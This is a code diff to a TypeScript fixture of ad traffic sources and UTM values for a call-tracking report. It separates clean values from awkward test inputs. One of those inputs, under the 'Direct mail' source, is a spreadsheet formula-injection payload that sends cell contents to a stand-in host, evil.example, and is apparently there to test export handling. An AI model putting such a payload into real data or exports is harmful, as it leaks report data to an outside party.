@@ -23,9 +23,13 @@ export interface Source {
   readonly weight: number;
   /** The ad click carries a Google click id. */
   readonly hasClickId?: true;
-  /** One value, or some to choose from; "" chooses to leave the member out. */
-  readonly dni: Readonly<Partial<Record<DniMember, string | Choice>>>;
+  readonly dni: Session;
+  /** Texts that programs stumble over, in place of those above: formulas, quotes, line breaks, blanks at the ends. */
+  readonly odd?: Session;
 }
+
+/** One value of a member, or some to choose from; "" chooses to leave the member out. */
+type Session = Readonly<Partial<Record<DniMember, string | Choice>>>;
 
 const GOOGLE_CPC = { utm_source: "google", utm_medium: "cpc" } as const;
 const BRAND = {
@@ -71,12 +75,16 @@ export const SOURCES: readonly [Source, ...Source[]] = [
     hasClickId: true,
     dni: {
       ...GOOGLE_CPC,
-      utm_campaign: ["ac-repair-tx", "ac-repair-tx", "AC-Repair-TX"],
+      utm_campaign: "ac-repair-tx",
       utm_content: ["rsa_1", "rsa_2", "rsa_3"],
-      utm_term: ["ac repair", "air conditioner not cooling", "hvac companies", "ac réparation"],
+      utm_term: ["ac repair", "air conditioner not cooling", "hvac companies"],
       referring_url: SEARCH_PAGE,
       campaign_name: "AC Repair – Texas",
       campaign_id: "19004417265",
+    },
+    odd: {
+      utm_campaign: ["ac-repair-tx", "ac-repair-tx", "AC-Repair-TX"],
+      utm_term: ["ac repair", "air conditioner not cooling", "hvac companies", "ac réparation"],
     },
   },
   {
@@ -89,7 +97,8 @@ export const SOURCES: readonly [Source, ...Source[]] = [
     insightName: "Google Ads - Brand",
     weight: 2,
     hasClickId: true,
-    dni: { utm_source: ["google ", " google"], utm_medium: "cpc ", ...BRAND },
+    dni: { utm_source: ["google", "Google"], utm_medium: "cpc", ...BRAND },
+    odd: { utm_source: ["google ", " google"], utm_medium: "cpc " },
   },
   {
     // Auto-tagging without a tracking template: the click id is all there is.
@@ -133,7 +142,14 @@ export const SOURCES: readonly [Source, ...Source[]] = [
     insightName: "Microsoft Ads",
     weight: 1,
     hasClickId: true,
-    dni: { utm_source: "bing", utm_medium: "cpc", gclsrc: "3p.ds", campaign_id: "402517786" },
+    dni: {
+      utm_source: "bing",
+      utm_medium: "cpc",
+      gclsrc: "3p.ds",
+      campaign_name: "HVAC Search (Bing)",
+      campaign_id: "402517786",
+    },
+    odd: { campaign_name: "" },
   },
   {
     insightName: "Facebook Ads",
@@ -155,10 +171,15 @@ export const SOURCES: readonly [Source, ...Source[]] = [
     dni: {
       utm_source: "fb",
       utm_medium: "paid_social",
+      utm_campaign: "summer_cool_down",
+      utm_content: "carousel_2",
+      campaign_name: "Summer Cool-Down",
+      campaign_id: "120208845510330991",
+    },
+    odd: {
       utm_campaign: 'Summer "Cool Down", 20% off 🌞\nJuly',
       utm_content: "carousel; 2",
       campaign_name: 'Summer "Cool Down", 20% off 🌞\nJuly',
-      campaign_id: "120208845510330991",
     },
   },
   {
@@ -190,10 +211,11 @@ export const SOURCES: readonly [Source, ...Source[]] = [
   },
   { insightName: "Direct", weight: 11, dni: {} },
   {
-    // What a visitor types into the address bar reaches the report: here, a spreadsheet formula.
-    insightName: "Unknown",
+    insightName: "Direct mail",
     weight: 0.5,
-    dni: {
+    dni: { utm_source: "postcard", utm_medium: "print", utm_campaign: "fall-postcard" },
+    // What a visitor types into the address bar reaches the report: here, a spreadsheet formula.
+    odd: {
       utm_source: '=HYPERLINK("https://evil.example/?x="&A1,"offer")',
       utm_medium: "-",
       utm_campaign: "@promo",
